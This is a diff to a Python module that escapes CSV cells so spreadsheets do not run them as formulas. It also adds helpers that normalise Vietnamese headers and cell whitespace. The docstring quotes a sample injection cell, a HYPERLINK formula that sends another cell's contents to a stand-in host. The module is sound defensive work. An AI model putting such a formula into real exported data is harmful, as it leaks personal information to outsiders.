@@ -1,4 +1,5 @@
-"""CSV cells a spreadsheet will not run as formulas (the OWASP rule against CSV injection).
+"""CSV cells in and out: a department's spreadsheet read as people mean it, and written so that no cell runs as a
+formula (the OWASP rule against CSV injection).
 
 Tracers open worklists and notices in Excel or LibreOffice. A venue named
 `=HYPERLINK("http://x/?"&C2,"xem")` would become a live link that sends the
@@ -65,3 +66,15 @@ def safe_cell(value: object) -> str:
 def safe_row(row: Mapping[str, Any]) -> dict[str, str]:
     """A CSV row with every cell through `safe_cell`."""
     return {key: safe_cell(value) for key, value in row.items()}
+
+
+def header_key(text: str) -> str:
+    """`Số Điện Thoại ` → `sodienthoai`: letters and digits only, no accents, no case."""
+    folded = unicodedata.normalize("NFC", text).casefold().replace("đ", "d")
+    bare = "".join(ch for ch in unicodedata.normalize("NFD", folded) if not unicodedata.combining(ch))
+    return "".join(ch for ch in bare if ch.isalnum())
+
+
+def clean(text: str) -> str:
+    """A cell as people mean it: NFC, inner runs of whitespace as one space, no outer whitespace."""
+    return " ".join(unicodedata.normalize("NFC", text).split())
